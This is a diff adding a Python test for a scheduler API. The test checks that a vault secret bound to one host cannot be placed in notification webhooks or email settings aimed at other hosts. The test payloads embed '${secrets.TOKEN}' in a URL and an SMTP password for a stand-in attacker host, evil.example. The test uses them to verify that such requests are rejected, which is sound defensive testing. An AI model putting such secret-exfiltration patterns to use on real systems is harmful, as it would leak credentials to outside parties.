@@ -127,3 +127,22 @@ async def test_hosts_over_the_api(api: Api, secret_key: str) -> None:
     assert body["details"]["errors"][0]["field"] == "hosts"
     expect(await api.put("/api/secrets/TOKEN", "alpha-editor",
                          json={"value": "v", "hosts": ["evil.example"]}), 403)
+
+
+async def test_an_editors_notifications_are_bound_too(api: Api, secret_key: str) -> None:
+    vault = api.runtime.vault
+    assert vault is not None
+    await vault.set("TOKEN", VALUE, "alpha", hosts=["hooks.example.com"])
+    body = expect(await api.post("/api/jobs", "alpha-editor", json={
+        "id": "n", "schedule": "@daily", "http": {"url": "http://127.0.0.1:9/x"},
+        "notify": {"webhook": "https://evil.example/h?t=${secrets.TOKEN}",
+                   "email": {"host": "smtp.evil.example", "to": "a@b.c",
+                             "password": "${secrets.TOKEN}"}}}), 422)
+    assert body["details"]["errors"] == [
+        {"field": "notify.webhook", "message": "${secrets.TOKEN} may only be sent to "
+                                               "hooks.example.com, not to evil.example"},
+        {"field": "notify.email", "message": "${secrets.TOKEN} may only be sent to "
+                                             "hooks.example.com, not to smtp.evil.example"}]
+    expect(await api.post("/api/jobs", "alpha-editor", json={
+        "id": "n", "schedule": "@daily", "http": {"url": "http://127.0.0.1:9/x"},
+        "notify": {"webhook": "https://hooks.example.com/h?t=${secrets.TOKEN}"}}), 201)
